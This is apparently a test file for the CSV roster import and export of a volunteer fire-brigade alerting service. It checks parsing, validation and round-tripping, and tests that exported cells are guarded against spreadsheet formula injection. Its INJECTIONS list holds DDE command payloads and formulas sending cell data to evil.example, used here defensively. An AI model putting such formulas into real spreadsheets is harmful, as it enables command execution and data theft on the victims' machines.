import fc from "fast-check";
import { expect, test } from "vitest";
import { EVERYTHING } from "../../src/ports.ts";
import { exportRoster, guarded, unguarded } from "../../src/rosterImport.ts";
import { village, type Workbench, workbench } from "./workbench.ts";

const CSV = { headers: { "Content-Type": "text/csv" } };

const table = (...lines: string[]): string => lines.join("\r\n");
const send = ({ call }: Workbench, text: string | Uint8Array, query = "") =>
	call("POST", `/v1/roster/import${query}`, text, CSV);

async function people({ call }: Workbench) {
	const { body } = await call("GET", "/v1/responders?limit=200");
	return new Map<string, Record<string, unknown>>(
		body.items.map((p: { name: string }) => [p.name, p]),
	);
}

test("a table of people is taken over with places, hours and qualifications", async () => {
	const bench = workbench();
	const { brigade } = await village(bench);
	const { status, body } = await send(
		bench,
		table(
			"Name,phone,second_phone,brigade,qualifications,home_lat,home_lon,work_lat,work_lon,work_days,work_from,work_to,travel,phone_kind,sms_alphabet,locale,availability",
			'"Петренко, Петро",067 765 43 21,0501112233,росохач,driver_c; leader,49.01,25.79,49.5,25.6,1-5,8:00,17:00,bicycle,button,latin,en,reserve',
			`Олена,+380677654322,,${brigade},,,,,,,,,,,,,`,
		),
	);
	expect(status).toBe(200);
	expect(body).toEqual({ created: 2, updated: 0, rejected: [] });
	const all = await people(bench);
	expect(all.get("Петренко, Петро")).toMatchObject({
		phone: "+380677654321",
		secondPhone: "+380501112233",
		brigadeIds: [brigade],
		qualifications: ["driver_c", "leader"],
		places: [
			{ kind: "home", lat: 49.01, lon: 25.79 },
			{
				kind: "work",
				lat: 49.5,
				lon: 25.6,
				weekly: [{ days: [1, 2, 3, 4, 5], from: "08:00", to: "17:00" }],
			},
		],
		travel: "bicycle",
		phoneKind: "button",
		smsAlphabet: "latin",
		locale: "en",
		availability: { state: "reserve" },
	});
	expect(all.get("Олена")).toMatchObject({
		travel: "car",
		locale: "uk",
		places: [],
	});
});

test("semicolons, tabs, a byte order mark, decimal commas and numbers without plus or zero are read as Excel writes them", async () => {
	for (const mark of [";", "\t"]) {
		const bench = workbench();
		const row = (...cells: string[]) => cells.join(mark);
		const { body } = await send(
			bench,
			`\uFEFF${table(
				row("name", "phone", "home_lat", "home_lon", ""),
				row("Іван", "380671112233", "49,017", "25,795", ""),
				row("Олег", "671112234", "", "", ""),
				row("", "", "", "", ""),
			)}\r\n`,
		);
		expect(body).toEqual({ created: 2, updated: 0, rejected: [] });
		const all = await people(bench);
		expect(all.get("Іван")).toMatchObject({
			phone: "+380671112233",
			places: [{ kind: "home", lat: 49.017, lon: 25.795 }],
		});
		expect(all.get("Олег")).toMatchObject({ phone: "+380671112234" });
	}
});

test("a known phone changes its person; empty cells and absent columns leave what is known", async () => {
	const bench = workbench();
	const { brigade } = await village(bench);
	const before = (await people(bench)).get("Іван");
	const { body } = await send(
		bench,
		table("phone,name,brigade,travel,availability", "0671234500,,,foot,off"),
	);
	expect(body).toEqual({ created: 0, updated: 1, rejected: [] });
	expect((await people(bench)).get("Іван")).toEqual({
		...before,
		travel: "foot",
		availability: { state: "off", until: null, weekly: [], exceptions: [] },
		brigadeIds: [brigade],
	});
});

test("every fault is told with its line and column, and nothing is written", async () => {
	const bench = workbench();
	await village(bench);
	const before = bench.appends.count;
	const { status, body, text } = await send(
		bench,
		table(
			"name,phone,brigade,qualifications,home_lat,home_lon,work_days,travel,availability",
			"Добра,0671112233,Росохач,,,,,,",
			"",
			'"Дві\nлінії",0671112234,,,,,,,',
			",0671112235,Ніде,a/b,91,,,кінь,спить",
			"Без телефону,,,,,,,,",
			"Пожежна,101,,,,,,,",
			"Знов,067 111 22 33,,,,,,,",
			"Коротка,0671112236",
			"Дні,0671112237,,,,,9,,",
		),
	);
	expect(status).toBe(200);
	expect(body).toMatchObject({ created: 0, updated: 0 });
	expect(
		body.rejected.map(
			(r: { line: number; column: string }) => `${r.line} ${r.column}`,
		),
	).toEqual([
		"4 name",
		"6 brigade",
		"6 qualifications",
		"6 home_lat",
		"6 home_lon",
		"6 travel",
		"6 availability",
		"6 name",
		"7 phone",
		"8 phone",
		"9 phone",
		"10 ",
		"11 work_days",
	]);
	expect(
		body.rejected.find((r: { line: number }) => r.line === 9).message,
	).toContain("line 2");
	expect(text).not.toMatch(/1112233|067 111|11122/);
	expect(bench.appends.count).toBe(before);
	expect((await people(bench)).size).toBe(3);
});

test("partial writes the good lines in one append and tells the others", async () => {
	const bench = workbench();
	const before = bench.appends.count;
	const lines = table("name,phone", "Добра,0671112233", "Погана,12", "Коротка");
	const { body } = await send(bench, lines, "?partial=true");
	expect(body).toMatchObject({ created: 1, updated: 0 });
	expect(body.rejected.map((r: { line: number }) => r.line)).toEqual([3, 4]);
	expect(bench.appends.count).toBe(before + 1);
	expect([...(await people(bench)).keys()]).toEqual(["Добра"]);
});

test("a dry run tells what would be done and writes nothing", async () => {
	const bench = workbench();
	await village(bench);
	const before = bench.appends.count;
	const { body } = await send(
		bench,
		table("name,phone", "Нова,0671112233", "Іван,0671234500"),
		"?dryRun",
	);
	expect(body).toEqual({ created: 1, updated: 1, rejected: [] });
	expect(bench.appends.count).toBe(before);
	expect((await people(bench)).size).toBe(3);
});

test("unknown, doubled and missing columns are named in the first line", async () => {
	const bench = workbench();
	const { body } = await send(
		bench,
		table("Phone;phone;shoe_size", "1;2;3"),
		"?partial=true",
	);
	expect(body.created).toBe(0);
	expect(body.rejected).toEqual([
		expect.objectContaining({
			line: 1,
			column: "shoe_size",
			message: expect.stringContaining("unknown column"),
		}),
		expect.objectContaining({ line: 1, column: "phone" }),
		expect.objectContaining({ line: 1, column: "name" }),
	]);
	expect((await send(bench, "")).body.rejected).toHaveLength(2);
});

test("a table in another encoding, with broken quotes or of another type is refused as what it is", async () => {
	const bench = workbench();
	const cp1251 = new Uint8Array([0xcf, 0xe5, 0xf2, 0xf0, 0xee]);
	const encoded = await send(bench, cp1251);
	expect(encoded.status).toBe(400);
	expect(encoded.body.detail).toContain("UTF-8");
	const quotes = await send(bench, table("name,phone", '"Петро,0671112233'));
	expect(quotes.status).toBe(400);
	expect(quotes.text).not.toContain("1112233");
	const json = await bench.call("POST", "/v1/roster/import", { name: "x" });
	expect(json.status).toBe(415);
	const flags = await send(bench, "name,phone", "?dryRun=maybe&force=1");
	expect(flags.body.errors.map((e: { path: string }) => e.path).sort()).toEqual(
		["dryRun", "force"],
	);
});

test("export and import again changes nobody, whatever the table cannot hold", async () => {
	const bench = workbench();
	const { brigade, people: ids } = await village(bench);
	await bench.call("POST", "/v1/brigades", {
		name: "Дві; назви",
		kind: "volunteer",
		location: { lat: 49, lon: 25 },
	});
	const other = (await bench.call("GET", "/v1/brigades")).body.items.find(
		(b: { id: string }) => b.id !== brigade,
	).id;
	await bench.call("PATCH", `/v1/responders/${ids[0]}`, {
		name: '=HYPERLINK("http://x"),;"\'',
		secondPhone: "0501112233",
		brigadeIds: [brigade, other],
		places: [
			{ kind: "home", lat: -49.5, lon: 25 },
			{ kind: "home", lat: 1, lon: 2 },
			{
				kind: "work",
				lat: 49,
				lon: 25,
				weekly: [
					{ days: [5, 1], from: "22:00", to: "06:00" },
					{ days: [6], from: "08:00", to: "24:00" },
				],
			},
		],
	});
	await bench.call("PUT", `/v1/responders/${ids[1]}/availability`, {
		state: "lifeOnly",
		until: "2027-01-01T00:00:00Z",
		weekly: [{ days: [1], from: "08:00", to: "09:00", state: "off" }],
	});
	const rows = JSON.stringify(await bench.service.roster.people(ids));
	const exported = await bench.call("GET", "/v1/roster/export");
	expect(exported.headers.get("Content-Type")).toContain("text/csv");
	const again = await send(bench, exported.text);
	expect(again.body).toEqual({ created: 0, updated: 3, rejected: [] });
	expect(JSON.stringify(await bench.service.roster.people(ids))).toBe(rows);
	expect((await bench.call("GET", "/v1/roster/export")).text).toBe(
		exported.text,
	);
});

test("an exported table imported elsewhere is the same table", async () => {
	const one = workbench();
	await village(one);
	const exported = await one.call("GET", "/v1/roster/export");
	const two = workbench();
	await two.call("POST", "/v1/brigades", {
		name: "Росохач",
		kind: "volunteer",
		location: { lat: 49, lon: 25 },
	});
	expect((await send(two, exported.text)).body).toMatchObject({
		created: 3,
		rejected: [],
	});
	const lines = (text: string) => text.split("\r\n").sort();
	expect(lines((await two.call("GET", "/v1/roster/export")).text)).toEqual(
		lines(exported.text),
	);
});

/** Beginnings that Excel, LibreOffice or Sheets run, with what they were seen to do. */
const INJECTIONS = [
	"=1+1",
	"=cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	'=HYPERLINK("http://evil.example?x="&A1,"click")',
	'=IMPORTXML(CONCAT("http://evil.example?v=",A2:E2),"//a")',
	"＝1+1",
	"－1",
	"'=1+1",
	"''@x",
	"+380671234567=1",
	"-49.1.2",
	"\u00a0=1+1",
];

test("no exported cell begins like a formula, and import gives back the very name", async () => {
	const bench = workbench();
	for (const [at, name] of INJECTIONS.entries()) {
		const added = await bench.call("POST", "/v1/responders", {
			name,
			phone: `+3806711122${String(at).padStart(2, "0")}`,
			brigadeIds: [],
		});
		expect(added.status).toBe(201);
	}
	const text = await exportRoster(bench.service, EVERYTHING);
	const cells = text
		.replace("\uFEFF", "")
		.split("\r\n")
		.slice(1)
		.map((row) => row.replace(/^"/, ""));
	for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t]/);
	expect(text).toContain(",+380671112200,");
	const names = [...(await people(bench)).keys()].sort();
	const elsewhere = workbench();
	expect((await send(elsewhere, text)).body.rejected).toEqual([]);
	expect([...(await people(elsewhere)).keys()].sort()).toEqual(names);
});

test("guarding a cell is undone by reading it, whatever it holds", () => {
	fc.assert(
		fc.property(
			fc.oneof(
				fc.string(),
				fc.string().map((text) => `=${text}`),
				fc.string().map((text) => `'+${text}`),
				fc.constantFrom(
					...INJECTIONS,
					"+380671234567",
					"-49.5",
					"'-49.5",
					"'+380671234567",
				),
			),
			(cell) => {
				expect(unguarded(guarded(cell))).toBe(cell);
				expect(guarded(cell)).not.toMatch(/^[=@＝＋－＠\t\r\n]/);
			},
		),
	);
});

test("who is alerted now and changed by a table makes the incident look again", async () => {
	const bench = workbench();
	await village(bench);
	const { id } = (
		await bench.call("POST", "/v1/incidents", {
			type: "structure_fire",
			location: { lat: 49.017, lon: 25.795 },
		})
	).body;
	await send(
		bench,
		table(
			"name,phone,availability",
			"Іван,0671234500,off",
			"Олег,0671234501,on",
		),
	);
	const waiting = (await bench.service.store.rows(id)).filter((row) =>
		row.key?.startsWith("reconsider:"),
	);
	expect(waiting).toHaveLength(1);
});

test("a table brings households and who is at home, and export and import again change nobody", async () => {
	const bench = workbench();
	await village(bench);
	const { body } = await send(
		bench,
		table(
			"name,phone,household,home_contact_name,home_contact_phone",
			"Микола,0677654001,Шевченка 4,Марія,0679990001",
			"Олена,0677654002,Шевченка 4,,",
		),
	);
	expect(body).toEqual({ created: 2, updated: 0, rejected: [] });
	const all = await people(bench);
	expect(all.get("Микола")).toMatchObject({
		household: "Шевченка 4",
		homeContact: { name: "Марія", phone: "+380679990001" },
	});
	expect(all.get("Олена")).toMatchObject({
		household: "Шевченка 4",
		homeContact: null,
	});
	await send(bench, await exportRoster(bench.service, EVERYTHING));
	expect(await people(bench)).toEqual(all);
	// An empty cell leaves what is known; half a contact is none.
	const { body: half } = await send(
		bench,
		table(
			"name,phone,home_contact_name,home_contact_phone",
			"Микола,0677654001,Марина,",
			"Олена,0677654002,Марія,",
			"Іван,0677654003,,067",
			"Петро,0677654004,Марія,0677654004",
		),
	);
	expect(half.rejected).toMatchObject([
		{ line: 3, column: "home_contact_phone" },
		{ line: 4, column: "home_contact_name" },
		{ line: 4, column: "home_contact_phone" },
		{ line: 5, column: "home_contact_phone" },
	]);
});
